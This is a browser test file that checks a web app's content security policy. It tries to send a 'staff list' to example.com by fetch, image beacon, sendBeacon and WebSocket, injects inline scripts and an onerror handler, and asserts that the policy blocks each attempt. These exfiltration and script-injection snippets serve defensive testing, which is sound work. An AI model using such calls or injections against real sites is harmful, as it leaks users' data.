// The content security policy (issue 5): the built page allows its own scripts, styles, images
// and wasm and nothing else, and once the app has started no connection can be made to anywhere.
// Every other browser test runs under the same policy, so the app's journeys all work under it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { open, finish, root } from './harness.mjs';

const html = readFileSync(join(root, 'dist', 'index.html'), 'utf8');

function directives(policy) {
  return Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
}

test('the built page carries a policy that allows only its own origin and its loader by hash', () => {
  const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/g)];
  assert.equal(metas.length, 1);
  const policy = directives(metas[0][1]);
  assert.deepEqual(policy['default-src'], ["'none'"]);
  assert.deepEqual(policy['style-src'], ["'self'"]);
  assert.deepEqual(policy['img-src'], ["'self'", 'data:']);
  assert.deepEqual(policy['connect-src'], ["'self'"]);
  assert.deepEqual(policy['base-uri'], ["'none'"]);
  assert.deepEqual(policy['form-action'], ["'none'"]);
  const scripts = policy['script-src'];
  assert.ok(!scripts.includes("'unsafe-inline'") && !scripts.includes("'unsafe-eval'"), scripts.join(' '));
  // The one inline script (Trunk's loader) is allowed by exactly its hash.
  const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  assert.equal(inline.length, 1);
  const hash = `'sha256-${createHash('sha256').update(inline[0]).digest('base64')}'`;
  assert.deepEqual(scripts, ["'self'", "'wasm-unsafe-eval'", hash]);
  // The page's own files are all it links to.
  for (const [, url] of html.matchAll(/(?:href|src)="([^"]*)"/g)) assert.match(url, /^(\/|data:)/, url);
});

test('after the app starts, no fetch, beacon, socket, image or script can reach anywhere', async () => {
  const s = await open('/sign-in');
  const { page } = s;
  const blocked = [];
  page.on('requestfailed', (r) => blocked.push(`${r.url()} ${r.failure()?.errorText}`));
  const attempts = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const tries = {};
    const attempt = async (name, f) => {
      try {
        await f();
        tries[name] = 'allowed';
      } catch (e) {
        tries[name] = `refused: ${e.name}`;
      }
    };
    await attempt('fetch own origin', () => fetch('/index.html', { method: 'POST', body: 'staff list' }));
    await attempt('fetch elsewhere', () => fetch('https://example.com/collect', { method: 'POST', body: 'staff list', mode: 'no-cors' }));
    await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {
      const x = new XMLHttpRequest();
      x.open('POST', '/collect');
      x.onload = resolve;
      x.onerror = () => reject(new Error('blocked'));
      x.send('staff list');
    }));
    await attempt('WebSocket', () => new Promise((resolve, reject) => {
      const w = new WebSocket('ws://127.0.0.1:9/');
      w.onopen = resolve;
      w.onerror = () => reject(new Error('blocked'));
    }));
    tries.sendBeacon = navigator.sendBeacon('/collect', 'staff list') ? 'queued' : 'refused';
    await attempt('image elsewhere', () => new Promise((resolve, reject) => {
      const i = new Image();
      i.onload = resolve;
      i.onerror = () => reject(new Error('blocked'));
      i.src = 'https://example.com/pixel.png?staff=list';
    }));
    await attempt('eval', () => eval('1'));
    document.body.insertAdjacentHTML('beforeend', '<img src="/nope.png" onerror="window.pwned = true">');
    const s = document.createElement('script');
    s.textContent = 'window.pwned = true';
    document.body.append(s);
    await new Promise((r) => setTimeout(r, 300));
    return { tries, violations, pwned: window.pwned === true };
  });
  for (const name of ['fetch own origin', 'fetch elsewhere', 'XMLHttpRequest', 'WebSocket', 'image elsewhere', 'eval']) {
    assert.match(attempts.tries[name], /^refused/, `${name}: ${attempts.tries[name]}`);
  }
  assert.equal(attempts.pwned, false, 'an injected inline script ran');
  const directivesHit = new Set(attempts.violations.map((v) => v.split(' ')[0]));
  for (const d of ['connect-src', 'img-src', 'script-src-elem', 'script-src-attr']) assert.ok(directivesHit.has(d), `no ${d} violation: ${attempts.violations.join('; ')}`);
  // The app still works under the closed policy.
  await page.getByLabel('Active', { exact: true }).check();
  await page.getByLabel('The UK', { exact: true }).check();
  await page.getByLabel('Office 365').check();
  await page.locator('#secret').check();
  await page.getByTestId('check').click();
  await page.getByTestId('answer').waitFor();
  // The image was stopped by the browser before it left: the only request to another host
  // failed as blocked by the policy. The attempts' console errors are expected.
  assert.deepEqual(s.requests.filter((u) => u.includes('example.com')), ['https://example.com/pixel.png?staff=list']);
  assert.ok(blocked.some((b) => b.startsWith('https://example.com/pixel.png') && /csp/i.test(b)), blocked.join('; '));
  s.requests.splice(0, s.requests.length, ...s.requests.filter((u) => !u.includes('example.com')));
  s.errors.length = 0;
  await finish(s);
});
